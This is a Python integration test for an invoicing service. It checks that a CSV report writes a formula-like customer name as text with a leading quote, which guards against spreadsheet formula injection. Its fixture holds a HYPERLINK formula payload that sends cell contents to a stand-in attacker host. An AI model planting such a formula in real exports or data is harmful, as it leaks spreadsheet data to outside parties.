"""Issue 13 item 15: the cadence report's CSV opens in a spreadsheet as data: a customer name that starts a formula
is written with a leading quote; amounts stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from services.invoicing.tests.conftest import SUPERVISOR, VIEWER, Service

pytestmark = pytest.mark.integration
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


async def test_a_customer_name_that_is_a_formula_is_written_as_text(service: Service) -> None:
    response = await service.client.put("/billing-profiles/CUST-1", headers=SUPERVISOR, json={
        "name": FORMULA, "legal_entity": "US01", "currency": "USD", "channel": "coupa"})
    assert response.status_code in (200, 201), response.text
    await service.issued()
    year, week, _ = datetime.now(UTC).isocalendar()
    as_csv = await service.client.get("/reports/invoicing-cadence", headers=VIEWER,
                                      params={"week": f"{year}-W{week:02d}", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [r["customer_name"] for r in rows] == ["'" + FORMULA]
    assert rows[0]["amount"] == "110.01"
